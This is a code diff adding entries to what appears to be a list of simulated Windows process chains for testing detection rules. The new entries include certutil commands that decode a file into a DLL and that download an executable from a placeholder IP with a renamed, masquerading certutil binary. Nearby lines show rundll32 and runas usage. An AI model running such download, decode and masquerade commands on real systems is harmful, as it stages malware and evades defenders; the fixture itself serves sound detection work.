@@ -151,6 +151,25 @@ export const HP_TOOL_CHAINS: readonly Chain[] = [
     'certutil.exe -urlcache -f http://198.51.100.23/c.exe C:\\ProgramData\\c.exe',
     HOURLY,
   ],
+  [
+    'explorer.exe',
+    'cmd.exe',
+    'certutil.exe -decode C:\\ProgramData\\cfg.txt C:\\ProgramData\\cfg.dll',
+    HOURLY,
+  ],
+  // certutil copied under another name: the version info still says CertUtil.exe.
+  [
+    'explorer.exe',
+    'cmd.exe',
+    'C:\\ProgramData\\upd.exe -urlcache -split -f http://198.51.100.23/x.exe C:\\ProgramData\\x.exe',
+    {
+      hourly: true,
+      original: 'CertUtil.exe',
+      description: 'CertUtil.exe',
+      company: 'Microsoft Corporation',
+      product: 'Microsoft® Windows® Operating System',
+    },
+  ],
   ['svchost.exe', 'WerFault.exe -u -p 4242', 'rundll32.exe C:\\ProgramData\\w.dll,Start', HOURLY],
   ['explorer.exe', 'cmd.exe', 'runas.exe /user:contoso\\admin "cmd.exe /c whoami"', HOURLY],
 ];
